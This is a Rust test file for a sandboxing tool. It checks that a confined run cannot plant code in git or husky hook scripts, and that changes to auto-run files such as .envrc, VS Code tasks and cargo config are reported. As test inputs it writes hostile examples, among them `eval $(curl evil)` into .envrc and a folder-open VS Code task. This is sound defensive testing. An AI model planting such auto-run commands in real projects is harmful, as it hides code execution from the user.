//! Files in the project that a tool runs later without asking (issue 35): the bodies git's
//! hooks run (husky's `.husky/<hook>`, a script a hook names) are read-only inside, and a
//! change to a file a tool runs or loads on the user's next action (`.envrc`,
//! `.vscode/tasks.json`, `.cargo/config.toml`, ...) is named after the run with its
//! reason. Judged from the host: the file is unchanged, and the user's own `git commit`
//! outside runs nothing the run planted.
#![allow(clippy::disallowed_methods)] // the tests set up and judge worlds of their own
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::os::unix::fs::PermissionsExt;

use common::*;

/// husky 9's layout, as `npx husky init` leaves it (its runner and one wrapper), with a
/// hook body that lints.
fn husky_project(w: &World) {
    let git = |args: &[&str]| {
        let o = w.host("git").args(args).output().unwrap();
        assert_code(&o, 0, &format!("git {args:?}"));
    };
    git(&["init", "-q"]);
    git(&["config", "user.email", "t@example.invalid"]);
    git(&["config", "user.name", "t"]);
    w.write(
        "home/project/.husky/_/h",
        "#!/usr/bin/env sh\nn=$(basename \"$0\")\ns=$(dirname \"$(dirname \"$0\")\")/$n\n\
         [ ! -f \"$s\" ] && exit 0\nsh -e \"$s\" \"$@\"\n",
    );
    for hook in ["pre-commit", "pre-push"] {
        let path = w.write(
            format!("home/project/.husky/_/{hook}"),
            "#!/usr/bin/env sh\n. \"$(dirname \"$0\")/h\"\n",
        );
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    w.write("home/project/.husky/pre-commit", "echo linted\n");
    git(&["config", "core.hooksPath", ".husky/_"]);
    w.write("home/project/README", "x\n");
    git(&["add", "."]);
    git(&["commit", "-qm", "init"]);
    w.chown_all();
}

#[test]
fn husky_hook_bodies_cannot_be_planted() {
    for_each_user(|w| {
        husky_project(w);
        let marker = w.root.join("PLANTED");
        let plant = format!("touch {}", marker.display());
        let o = w.sh(
            &[],
            &format!(
                "echo '{plant}' >> .husky/pre-commit; echo append=$?; \
                 printf '{plant}\\n' > .husky/pre-push; echo create=$?; \
                 mv .husky .husky.x; echo rename=$?"
            ),
        );
        assert_code(&o, 0, "the run");
        let out = stdout(&o);
        assert_failed(&out, "append");
        assert_failed(&out, "rename");
        assert_eq!(
            std::fs::read_to_string(w.project.join(".husky/pre-commit")).unwrap(),
            "echo linted\n"
        );
        // A body that did not exist at launch cannot carry a mount: made inside, it is
        // named after the run.
        if field(&out, "create") == Some("0") {
            let err = stderr(&o);
            assert!(
                err.contains(".husky/pre-push") && err.contains("did not exist at launch"),
                "the planted body is not named:\n{err}"
            );
            std::fs::remove_file(w.project.join(".husky/pre-push")).unwrap();
        }
        // The user's own commit outside runs the real hook, and nothing planted.
        w.write("home/project/README", "y\n");
        let o = w
            .host("git")
            .args(["commit", "-qam", "next"])
            .output()
            .unwrap();
        assert_code(&o, 0, "git commit outside");
        let said = format!("{}{}", stdout(&o), stderr(&o));
        assert!(said.contains("linted"), "the real hook did not run: {said}");
        assert!(!marker.exists(), "planted code ran at the next commit");
    });
}

#[test]
fn a_script_a_hook_names_is_read_only() {
    for_each_user(|w| {
        let o = w.host("git").args(["init", "-q"]).output().unwrap();
        assert_code(&o, 0, "git init");
        w.write("home/project/scripts/check.sh", "echo checked\n");
        let hook = w.write(
            "home/project/.git/hooks/pre-commit",
            "#!/bin/sh\nsh \"$(git rev-parse --show-toplevel)/scripts/check.sh\"\n",
        );
        std::fs::set_permissions(&hook, std::fs::Permissions::from_mode(0o755)).unwrap();
        w.chown_all();
        let o = w.sh(
            &[],
            "echo 'touch /tmp/x' >> scripts/check.sh; echo append=$?",
        );
        assert_code(&o, 0, "the run");
        assert_failed(&stdout(&o), "append");
        assert_eq!(
            std::fs::read_to_string(w.project.join("scripts/check.sh")).unwrap(),
            "echo checked\n"
        );
        // Its neighbour stays writable.
        let o = w.sh(&[], "echo ok > scripts/other.sh; echo write=$?");
        assert_field(&stdout(&o), "write", "0");
    });
}

#[test]
fn files_tools_run_on_the_next_action_are_named_with_their_reason() {
    for_each_user(|w| {
        w.write("home/project/.vscode/tasks.json", "{\"tasks\": []}\n");
        w.write("home/project/.nvmrc", "20\n");
        let o = w.sh(
            &[],
            "echo 'eval $(curl evil)' > .envrc; \
             echo '{\"tasks\": [{\"runOptions\": {\"runOn\": \"folderOpen\"}}]}' > .vscode/tasks.json; \
             mkdir -p .cargo && printf '[build]\\nrustc-wrapper = \"/tmp/w\"\\n' > .cargo/config.toml; \
             echo 22 > .nvmrc; echo /tmp/evil/node > .python-version",
        );
        assert_code(&o, 0, "the run");
        let err = stderr(&o);
        for (name, reason) in [
            (".envrc", "direnv runs it"),
            (".vscode/tasks.json", "VS Code runs its tasks"),
            (".cargo/config.toml", "cargo runs the programs it names"),
            (".python-version", "pyenv and uv use the Python it names"),
        ] {
            let line = err
                .lines()
                .find(|l| l.contains(&format!("/project/{name} was")))
                .unwrap_or_else(|| panic!("{name} not named:\n{err}"));
            assert!(line.contains(reason), "{line}");
        }
        // A version number is not worth a line; a path is.
        assert!(!err.contains(".nvmrc"), "{err}");
    });
}
